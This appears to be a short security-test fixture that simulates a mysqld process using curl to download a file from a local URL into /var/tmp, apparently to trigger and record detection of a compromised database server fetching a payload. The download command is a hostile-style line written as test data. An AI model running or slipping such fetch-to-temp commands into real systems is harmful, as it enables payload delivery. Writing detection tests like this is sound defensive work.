# A database server is made to download something
posing mysqld
#record
mysqld -c 'curl -s -o /var/tmp/x http://127.0.0.1:1/x; true'
